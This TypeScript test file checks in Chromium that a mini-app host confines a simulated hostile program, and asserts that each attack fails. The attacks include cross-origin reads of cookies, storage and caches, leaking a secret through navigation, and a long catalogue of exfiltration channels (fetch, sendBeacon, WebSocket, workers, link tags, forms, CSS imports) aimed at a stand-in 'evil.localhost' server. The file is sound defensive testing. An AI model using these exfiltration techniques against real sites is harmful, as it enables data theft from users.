// What a hostile program cannot do (DESIGN §7), each tried in real Chromium against the real host and adapter.

import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';

import { programLabel } from '@org/package-format';
import { isDebugDomain } from '@org/package-format/debug';
import { createWebCrypto } from '@org/package-format/webcrypto';
import { createReleaseFactory } from '@org/testkit';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { startJourneyServer } from '../../packages/adapters/browser/test/journey-server.js';
import { launchChromium } from '../launch-chromium.js';

import { storeRoutes } from './memory-store-routes.js';

import type { JourneyServer } from '../../packages/adapters/browser/test/journey-server.js';
import type { MiniApp } from '@org/guest-sdk';
import type { PublishedRelease } from '@org/testkit';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';

const attacker = 'com.example.attacker';
const victim = 'com.example.victim';
const secret = 'stolen-secret';

declare global {
  interface Window {
    /** The script-tag SDK, under a name that every program of this file sets. */
    bridge: MiniApp;
  }
}

let browser: Browser;
let context: BrowserContext;
let page: Page;
let server: JourneyServer;
let evil: Server;
let evilUrl: string;
let evilHits: string[];
const releases = new Map<string, PublishedRelease>();
const labels = new Map<string, string>();

beforeAll(async () => {
  evil = createServer((request, response) => {
    evilHits.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('reached');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  // A listening TCP server has an address with a port.
  evilUrl = `http://evil.localhost:${String((evil.address() as AddressInfo).port)}`;
  const factory = await createReleaseFactory(globalThis.crypto.subtle);
  server = await startJourneyServer({
    script: '../../../../test/journeys/isolation-host-page.ts',
    root: factory.root,
    extra: storeRoutes(factory, () => releases.values()),
  });
  const sdk = await readFile(join(import.meta.dirname, '../../packages/guest-sdk/dist/global.js'), 'utf8');
  for (const id of [attacker, victim]) {
    labels.set(id, await programLabel(id, createWebCrypto(globalThis.crypto.subtle)));
    releases.set(
      id,
      await factory.release({
        manifest: {
          id,
          name: id,
          permissions: ['auth.token'],
          allowedDomains: [`api.localhost:${String(server.sinkPort)}`],
        },
        allowDomain: isDebugDomain,
        files: {
          'index.html': `<!doctype html><title>${id}</title><script src="sdk.js"></script><p>Program ${id}</p><script src="app.js"></script>`,
          'sdk.js': sdk,
          // Each document notes where it was opened: a program that is handed a secret would find it here.
          'app.js': `localStorage.setItem('seen', (localStorage.getItem('seen') || '') + ' ' + location.href);
            localStorage.setItem('own', '${id}');
            window.bridge = window.MiniAppBridge;
            document.documentElement.dataset.loaded = 'true';`,
        },
      }),
    );
  }
  browser = await launchChromium();
});

afterAll(async () => {
  await browser.close();
  await server.close();
  evil.closeAllConnections();
  evil.close();
});

beforeEach(async () => {
  evilHits = [];
  context = await browser.newContext();
  page = await context.newPage();
  await page.goto(server.hostUrl);
  return () => context.close();
});

function originOf(id: string): string {
  return `http://${labels.get(id) ?? ''}.localhost:${String(server.port)}`;
}

async function launch(id: string): Promise<Frame> {
  const outcome = await page.evaluate(async (program) => (await window.isolationHost).launch(program), id);
  expect(outcome).toBe('launched');
  const frameOf = () => page.frames().find((one) => one.url().startsWith(`${originOf(id)}/index.html`));
  await expect.poll(frameOf, { timeout: 10_000 }).toBeDefined();
  const frame = frameOf();
  if (frame === undefined) throw new Error(`${id} has no frame.`);
  await frame.waitForSelector('html[data-loaded]', { state: 'attached' });
  return frame;
}

const notices = () => page.evaluate(async () => (await window.isolationHost).notices);

/** Time for a request that should not happen to happen. */
const grace = () => new Promise((resolve) => setTimeout(resolve, 700));

/** Runs code in the guest that may throw, and tells how it ended. */
function attempt(frame: Frame, code: string): Promise<string> {
  return frame.evaluate(
    `(async () => { try { return 'ok ' + String(await (${code})); } catch (error) { return error.name; } })()`,
  );
}

describe('a hostile program', () => {
  it('reads neither the host’s nor another program’s storage, cookies, databases or caches', async () => {
    const other = await launch(victim);
    await other.evaluate(async () => {
      document.cookie = 'victim=1; SameSite=None';
      indexedDB.open('victim-database');
      await caches.open('victim-cache');
      await window.bridge.call('storage.set', { key: 'card', value: '4111' });
    });
    const frame = await launch(attacker);
    const seen = await frame.evaluate(async () => ({
      cookie: document.cookie,
      local: Object.keys(localStorage).sort(),
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
      storageKeys: (await window.bridge.call('storage.keys')).keys,
      guessed: (await window.bridge.call('storage.get', { key: 'com.example.victim:card' })).value,
    }));
    expect(seen).toMatchObject({
      cookie: '',
      local: ['own', 'seen'],
      databases: [],
      storageKeys: [],
      guessed: null,
    });
    expect(seen.caches.join()).not.toMatch(/host|victim/u);
    for (const code of [
      'parent.localStorage',
      'parent.document.cookie',
      'top.hostSecret',
      'parent.caches.keys()',
      'frameElement.ownerDocument',
    ]) {
      expect([code, await attempt(frame, code)]).not.toContainEqual(expect.stringContaining('ok '));
    }
    expect(await attempt(frame, 'parent.frames[0].localStorage.length')).toBe('SecurityError');
  });

  it('plants nothing in the host or in another program', async () => {
    const other = await launch(victim);
    const frame = await launch(attacker);
    await frame.evaluate(
      ([hostName, victimName]) => {
        for (const domain of ['localhost', '.localhost', hostName, victimName]) {
          for (const rest of [
            '',
            '; SameSite=None',
            '; SameSite=None; Secure',
            '; SameSite=None; Secure; Partitioned',
          ]) {
            document.cookie = `planted-${String(domain)}=1; path=/; Domain=${String(domain)}${rest}`;
          }
        }
      },
      ['host.localhost', `${labels.get(victim) ?? ''}.localhost`],
    );
    await frame.evaluate(async () => {
      await (await caches.open('planted')).put('/planted', new Response('planted'));
      indexedDB.open('planted');
      localStorage.setItem('planted', '1');
    });
    expect(await other.evaluate(() => document.cookie)).not.toContain('planted');
    expect(await page.evaluate(() => document.cookie)).toBe('host-token=master-token-of-the-host');
    const cookies = await context.cookies();
    expect(
      cookies
        .filter(({ domain }) => /^\.?(localhost|host\.localhost)$/u.test(domain))
        .map(({ name }) => name),
    ).toEqual(['host-token']);
    expect(await page.evaluate(() => caches.has('planted'))).toBe(false);
    expect(await other.evaluate(() => caches.has('planted'))).toBe(false);
    expect(await other.evaluate(() => localStorage.getItem('planted'))).toBeNull();
    expect((await page.evaluate(() => indexedDB.databases())).map(({ name }) => name)).not.toContain(
      'planted',
    );
  });

  it.each(['/index.html?', '/index.html#', '/?', '/__miniapp/boot?', '/__miniapp/opaque?', '/app.js?'])(
    'hands no secret to another program by navigating to its %s',
    async (path) => {
      const other = await launch(victim);
      const frame = await launch(attacker);
      await frame.evaluate(
        (url) => {
          location.href = url;
        },
        `${originOf(victim)}${path}${secret}`,
      );
      await expect
        .poll(notices, { timeout: 10_000 })
        .toContainEqual(expect.stringContaining(`closed ${attacker}`));
      expect(await other.evaluate(() => localStorage.getItem('seen'))).not.toContain(secret);
      // The frame is gone from the page, not only its session.
      expect(page.frames().filter((one) => one.url().includes(secret))).toEqual([]);
    },
  );

  it('reaches no host outside allowedDomains', async () => {
    const frame = await launch(attacker);
    await frame.evaluate((url) => {
      const tries: (() => unknown)[] = [
        () => fetch(`${url}/fetch`),
        () => fetch(`${url}/no-cors`, { mode: 'no-cors' }),
        () => fetch(`${url}/keepalive`, { method: 'POST', keepalive: true, body: 'x' }),
        () => navigator.sendBeacon(`${url}/beacon`, 'x'),
        () => new WebSocket(`${url.replace('http', 'ws')}/socket`),
        () => new EventSource(`${url}/events`),
        () => import(`${url}/module`),
        () => new Worker(`${url}/worker`),
        () => new Worker(URL.createObjectURL(new Blob([`fetch('${url}/blob-worker')`]))),
        () => navigator.serviceWorker.register(`${url}/service-worker`),
        () => window.open(`${url}/popup`),
        () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createDataChannel('x'),
      ];
      const element = (tag: string, attributes: Record<string, string>) => () => {
        document.body.append(Object.assign(document.createElement(tag), attributes));
      };
      for (const rel of [
        'stylesheet',
        'prefetch',
        'preload',
        'modulepreload',
        'preconnect',
        'dns-prefetch',
        'icon',
        'manifest',
      ]) {
        tries.push(element('link', { rel, href: `${url}/link-${rel}`, as: 'script' }));
      }
      for (const tag of ['img', 'script', 'iframe', 'video', 'audio', 'embed'])
        tries.push(element(tag, { src: `${url}/${tag}` }));
      tries.push(element('object', { data: `${url}/object` }));
      tries.push(
        element('style', {
          textContent: `@import '${url}/import'; body { background: url(${url}/background) }`,
        }),
      );
      tries.push(element('base', { href: `${url}/base/` }), () => fetch('relative'));
      tries.push(() => {
        const nested = document.createElement('iframe');
        nested.srcdoc = `<img src="${url}/nested-image"><meta http-equiv="refresh" content="0; url=${url}/nested-refresh">`;
        document.body.append(nested);
      });
      tries.push(() => {
        const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' });
        document.body.append(form);
        form.submit();
      });
      for (const run of tries) {
        try {
          // Rejections are what we want; the server counts what came through.
          void Promise.resolve(run()).catch(() => undefined);
        } catch {
          continue;
        }
      }
    }, evilUrl);
    await grace();
    expect(evilHits).toEqual([]);
    await frame.evaluate((url) => {
      location.href = url;
    }, `${evilUrl}/navigation?${secret}`);
    await grace();
    expect(evilHits).toEqual([]);
  });

  it('reaches an allowed domain, so the walls above are not a cut cable', async () => {
    const frame = await launch(attacker);
    expect(
      await attempt(
        frame,
        `fetch('http://api.localhost:${String(server.sinkPort)}/x').then((answer) => answer.status)`,
      ),
    ).toBe('ok 200');
  });

  it('gets no answer from network.request for another host', async () => {
    const frame = await launch(attacker);
    const code = await frame.evaluate(
      (url) =>
        window.bridge.call('network.request', { url }).then(
          () => 'answered',
          (error: unknown) => (error as { code: string }).code,
        ),
      `${evilUrl}/bridge`,
    );
    expect(code).toBe('DOMAIN_NOT_ALLOWED');
    expect(evilHits).toEqual([]);
  });

  it('does not reach the bridge from a nested frame', async () => {
    const frame = await launch(attacker);
    await frame.evaluate(() => {
      for (const attributes of [{}, { srcdoc: '<p>nested' }]) {
        document.body.append(Object.assign(document.createElement('iframe'), attributes));
      }
    });
    await expect.poll(() => frame.childFrames().length).toBe(2);
    const heard = await Promise.all(
      frame.childFrames().map((nested) =>
        nested.evaluate(async () => {
          const answers: unknown[] = [];
          addEventListener('message', ({ data }) => answers.push(data));
          for (const target of [window.parent, window.top]) {
            target?.postMessage({ miniapp: 'connect', nonce: 'nested' }, '*');
          }
          await new Promise((resolve) => setTimeout(resolve, 700));
          return answers.length;
        }),
      ),
    );
    expect(heard).toEqual([0, 0]);
    expect(await frame.evaluate(() => window.bridge.call('bridge.ping', {}).then(() => 'alive'))).toBe(
      'alive',
    );
  });

  it('cannot call what it has no permission for', async () => {
    const frame = await launch(attacker);
    const error = await frame.evaluate(() =>
      window.bridge.call('payment.pay', { orderId: 'order-123', amount: 99.99, currency: 'USD' }).then(
        () => null,
        (error: unknown) => ({
          ...(error as { code: string; message: string }),
          message: (error as Error).message,
        }),
      ),
    );
    expect(error).toMatchObject({
      code: 'PERMISSION_DENIED',
      message: expect.stringContaining('"payment"') as string,
    });
  });

  it('learns its own token, never the host’s', async () => {
    const frame = await launch(attacker);
    const token = await frame.evaluate(() => window.bridge.call('auth.getToken'));
    expect(token).toMatchObject({ token: `token-for-${attacker}` });
    const reachable = await frame.evaluate(() =>
      JSON.stringify([document.cookie, Object.entries(localStorage), document.documentElement.outerHTML]),
    );
    expect(reachable).not.toContain('master-token');
    for (const { url } of server.requests.map((request) => ({ url: request })))
      expect(url).not.toContain('master-token');
  });
});
